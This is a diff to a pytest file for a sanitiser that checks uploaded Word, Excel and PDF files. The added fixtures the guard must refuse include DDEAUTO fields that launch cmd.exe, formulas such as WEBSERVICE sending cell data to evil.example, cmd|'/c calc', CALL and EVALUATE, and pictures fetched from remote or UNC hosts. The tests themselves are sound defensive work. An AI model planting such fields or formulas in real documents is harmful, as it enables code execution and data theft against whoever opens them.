@@ -1,9 +1,9 @@
-"""All that a docx or xlsx says is read, wherever it says it."""
+"""All that a docx or xlsx says is read, wherever it says it; what it would do by itself is refused."""
 # ruff: noqa: E501 - one row of a table a line
 
 import pytest
 
-from scripts.guard.documents import cleaned_document, document_texts
+from scripts.guard.documents import cleaned_document, document_links, document_texts
 from scripts.guard.files import Unfit
 from scripts.guard.text import findings
 from scripts.guard.watch import Kind, Watch
@@ -108,6 +108,20 @@ def styles(*each: str) -> bytes:
     return make.docx(body, {"word/styles.xml": f'<w:styles xmlns:w="{make.W}">{"".join(each)}</w:styles>'})
 
 
+_FIELD = (
+    '<w:fldChar w:fldCharType="begin"/><w:instrText>{}</w:instrText>'
+    '<w:fldChar w:fldCharType="separate"/><w:t>x</w:t><w:fldChar w:fldCharType="end"/>'
+)
+
+
+def _field(*pieces: str) -> bytes:
+    return make.docx(f"<w:p><w:r>{_FIELD.format('</w:instrText><w:instrText>'.join(pieces))}</w:r></w:p>")
+
+
+def _vml(element: str) -> bytes:
+    return make.docx(f'<w:p><w:r><v:{element} xmlns:v="{VML}"/></w:r></w:p>')
+
+
 HIDE = "<w:rPr><w:vanish/></w:rPr>"
 REFUSED: dict[str, tuple[bytes, str, str]] = {
     "hiding style below another": (
@@ -128,7 +142,66 @@ REFUSED: dict[str, tuple[bytes, str, str]] = {
     "all rows flat": (
         make.edited(make.xlsx(), SHEET, b'defaultRowHeight="15"', b'defaultRowHeight="0"'), "xlsx", "隐藏的行或列"
     ),
+    "picture fetched by a field": (_field("", ' INCLUDEPICTURE "http://evil.example/a.png" ', ""), "docx", "域 INCLUDEPICTURE"),
+    "command in a field": (_field("", ' DDEAUTO c:\\\\windows\\\\cmd.exe "/k x" ', ""), "docx", "域 DDEAUTO"),
+    "command in pieces": (_field(" DDE", "AUTO cmd"), "docx", "域 DDEAUTO"),
+    "field within a field": (_field(' HYPERLINK "', "</w:instrText>" + _FIELD.format(" QUOTE x ") + "<w:instrText>", '"'), "docx", "域 QUOTE"),
+    "field nobody began": (make.docx("<w:p><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>"), "docx", "域 DDEAUTO"),
+    "simple field": (make.docx('<w:p><w:fldSimple w:instr=" INCLUDETEXT x "/></w:p>'), "docx", "域 INCLUDETEXT"),
+    "link to a file": (_field(' HYPERLINK "file:///c:/x.exe" '), "docx", "外部的模板"),
+    "picture elsewhere": (_vml('imagedata src="http://evil.example"'), "docx", "外部的模板"),
+    "picture on a share": (_vml('imagedata src="\\\\evil\\a"'), "docx", "外部的模板"),
+    "shape with a script": (_vml('shape href="javascript:x"'), "docx", "外部的模板"),
+    "picture by its link": (_vml('blip r:link="rId1" xmlns:r="r"'), "docx", "外部的模板"),
+    **{
+        f"formula {each}": (sheet(f'<row r="9"><c r="A9"><f>{each}</f><v>0</v></c></row>', old="<sheetData>"), "xlsx", "公式")
+        for each in (
+            'IMAGE("http://evil.example/a.png")', 'WEBSERVICE("http://evil.example/?"&amp;A1)', "cmd|'/c calc'!A1",
+            'HYPERLINK("http://evil.example/","x")', 'rtd("x","","y")', "_xlfn.WEBSERVICE(A1)", "CALL (A1)",
+            "[1]Sheet!A1", "'[1]Sheet'!A1", "'\\\\evil\\[x.xlsx]Sheet'!A1", "EVALUATE(A1)",
+        )
+    },
+    "formula of a name": (sheet("<definedNames><definedName name='x'>CALL(A1)</definedName></definedNames>", BOOK, "</sheets>"), "xlsx", "公式"),
+    "formula of a rule": (sheet("<conditionalFormatting><cfRule><formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>"), "xlsx", "公式"),
 }  # fmt: skip
+
+
+ACCEPTED: dict[str, tuple[bytes, str]] = {
+    **{
+        f"field {each}": (_field(each), "docx")
+        for each in (
+            " PAGE  \\* MERGEFORMAT ", ' TOC \\o "1-3" \\h \\z \\u ', " PAGEREF _Toc139002190 \\h ", ' HYPERLINK \\l "_Toc1" ',
+            ' HYPERLINK "https://www.gov.cn/" ', " FORMTEXT ", ' DATE \\@ "yyyy" ', " =SUM(ABOVE) ", "",
+        )
+    },
+    **{
+        f"formula {each}": (sheet(f'<row r="9"><c r="A9"><f>{each}</f><v>0</v></c></row>', old="<sheetData>"), "xlsx")
+        for each in ("SUM(A1:A3)", 'IF(A1&gt;0,"是(a|b)","否")', "'甲 乙'!A1*2", "Table1[[#This Row],[名额]]+1", "ROUND((A1+A2)/2,1)")
+    },
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", ACCEPTED)
+def test_ordinary_fields_and_formulas_pass(name: str) -> None:
+    """Page numbers, tables of contents, forms, sums and links to the web are published."""
+    assert cleaned_document(*ACCEPTED[name])
+
+
+LINKING: dict[str, tuple[bytes, str]] = {
+    "docx": (make.docx(links=make.link(2, "hyperlink", "https://www.gov.cn/", "External")), "docx"),
+    "docx, by a field": (_field(' HYPERLINK "https://www.gov.cn/" '), "docx"),
+    "docx, by a bare field": (_field(" hyperlink https://www.gov.cn/ "), "docx"),
+    "pdf": (make.pdf(make.linked), "pdf"),
+}
+
+
+@pytest.mark.parametrize("name", LINKING)
+def test_every_address_of_a_document_is_told(name: str) -> None:
+    """Whoever holds them against the listed web sites sees each link, however it is written."""
+    data, ending = LINKING[name]
+    assert [address for _, address in document_links(cleaned_document(data, ending), ending)] == [
+        "https://www.gov.cn/"
+    ]
 
 
 @pytest.mark.parametrize("name", REFUSED)
